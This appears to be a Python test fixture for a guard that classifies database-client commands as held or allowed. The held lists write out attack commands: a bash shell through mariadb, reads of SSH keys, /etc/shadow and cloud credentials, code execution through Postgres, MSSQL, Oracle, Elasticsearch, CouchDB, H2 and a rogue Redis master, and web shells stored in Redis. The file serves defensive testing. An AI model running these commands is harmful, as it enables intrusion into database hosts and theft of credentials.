"""A database server used as a way onto its machine, part 2 (dbexec19, session 19).

Measured on pentest notes split by source before any verdict was seen (kept outside the repository:
/work/realworld/dbexec19 on the machine that measured it): gitblanc/c1b3rn0t3s, dzzc/pinohans.github.io,
Dliv3/redis-rogue-server, Ridter/redis-rce, okazymyrov/piki, rackilea/diplomski, Maskhe/vuls and
qi4L/JYso tuned on; KebabOverIp/RepairThings, srbleu/Cheatshets-en-Markdown, jazzsimmonds/ejpt,
Isaac-Ken/Isaac-Ken.github.io, fatdba/Oracle-Database-Scripts and two unnamed notes held out. The classes:

- statements a client reads on its standard input or from a file the same command line wrote
  (``echo … | mysql``, ``printf … | psql -h H``, ``echo … > x.sql && mysql < x.sql``, ``psql -f``,
  ``sqlplus @F``) are judged as the same statements on the command line are;
- a file read through the server (``LOAD_FILE``, ``pg_read_file``, ``lo_import``, ``LOAD DATA INFILE``,
  ``COPY t FROM 'F'``, ``BULK INSERT``/``OPENROWSET(BULK …)``): judged as a read of that file (a secret is
  blocked), and asked when the server is another machine's;
- a shared library written by the server (``INTO DUMPFILE '/tmp/udf.so'``): blocked;
- Oracle's scheduler job of an executable, its Java given the right to execute, Java that starts a process
  handed to a server (H2's ``CREATE ALIAS``, an Elasticsearch script), CouchDB's query server set:
  asked; ``odat`` and a rogue Redis master pointed at another host: asked;
- a web page's code stored in a Redis value: blocked.

The commands here are variants written for the tests (other clients, spellings and wrappers than the
ones measured).
"""

from __future__ import annotations

HELD = {
    "fed-statements": [
        "printf '%s\\n' '\\! /bin/bash -i' | mariadb -uroot",
        "cat > /tmp/q.sql <<'EOF'\nSELECT sys_eval('id');\nEOF\nmysql -uroot < /tmp/q.sql",
        "echo \"COPY (SELECT '') TO PROGRAM 'uname -a';\" | env PGPASSWORD=x psql -h 10.9.8.7 -U postgres",
        "echo 'xp_cmdshell whoami' > cmds.txt; impacket-mssqlclient sa:x@10.9.8.7 < cmds.txt",
        "echo \"exec dbms_scheduler.create_job(job_name=>'x',job_type=>'EXECUTABLE',"
        "job_action=>'/tmp/r.sh');\" > /tmp/j.sql; sqlplus system/x@10.9.8.7/ORCL @/tmp/j.sql",
    ],
    "file-read-through-db": [
        "echo \"select pg_read_binary_file('/root/.ssh/id_rsa')\" | psql -h db.corp.example -U postgres",
        "psql -h 10.0.0.7 -U postgres -c \"CREATE TABLE x(t text); COPY x FROM '/etc/passwd'; TABLE x\"",
        "sqlcmd -S db9 -U sa -Q \"SELECT * FROM OPENROWSET(BULK 'C:\\Windows\\win.ini', SINGLE_CLOB) x\"",
        "echo \"SELECT load_file('/home/user/.aws/credentials')\" > q.sql; mysql -u root < q.sql",
        "mariadb -uroot -e \"LOAD DATA INFILE '/etc/shadow' INTO TABLE t\"",
    ],
    "server-runs-code": [
        "mysql -uroot -e \"select 0x7f454c46 into dumpfile '/tmp/lib_mysqludf_sys.so'\"",
        'curl -s -XPOST http://172.16.0.9:9200/idx/_search -d \'{"script_fields":{"a":{"script":'
        '"new java.lang.ProcessBuilder(\\"id\\").start()"}}}\'',
        "curl -X PUT http://172.16.0.9:5984/_config/query_servers/x -d '\"/usr/bin/id\"'",
        "./odat.py java -s 172.16.0.3 -U scott -P tiger -d ORCL --exec /bin/id",
        "python3 ./redis-rogue-server.py --rhost 172.16.0.4 --lhost 172.16.0.200",
        'java -cp h2.jar org.h2.tools.Shell -url jdbc:h2:tcp://172.16.0.5/~/db -sql "CREATE ALIAS R AS '
        '$$ String r(String c) throws Exception { Runtime.getRuntime().exec(c); return c; } $$"',
        "sqlplus system/x@172.16.0.3/ORCL <<'EOF'\nCREATE OR REPLACE AND COMPILE JAVA SOURCE NAMED \"H\" AS"
        " public class H { public static void r(String c) throws Exception {"
        ' new ProcessBuilder("sh", "-c", c).start(); } }\n/\nEOF',
    ],
    "redis-page-code": [
        "redis-cli -h 172.16.0.4 hset k f '<?= `$_GET[0]`; ?>'",
        "valkey-cli -h 172.16.0.4 set page '<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>'",
    ],
}

ALLOWED = [
    "echo 'SELECT 1;' | mysql -u root app",
    "cat > seed.sql <<'EOF'\nINSERT INTO users(name) VALUES ('a');\nEOF\npsql -d app_dev -f seed.sql",
    "printf 'COPY users TO STDOUT CSV;' | psql -d app_dev > users.csv",
    "echo \"COPY t FROM '/tmp/import.csv' CSV\" | psql -d app_dev",
    "psql -d app_dev -c \"COPY (SELECT 'it''s; fine') TO '/tmp/out.csv'\"",
    "redis-cli -h localhost hset user:1 name alice",
    'curl -s http://localhost:9200/_search -d \'{"query":{"match":{"title":"ProcessBuilder docs"}}}\'',
    "java -cp h2.jar org.h2.tools.Shell -url jdbc:h2:./data/app -sql 'select * from users'",
    "java -jar app.jar --spring.profiles.active=dev",
    "mysql -u root app -e \"LOAD DATA LOCAL INFILE 'fixtures/a.csv' INTO TABLE a\"",
    "echo 'select count(*) from orders;' > /tmp/count.sql && psql -d app_dev -f /tmp/count.sql",
    "jrunscript -e 'java.lang.System.getProperties().list(java.lang.System.out);'",
]
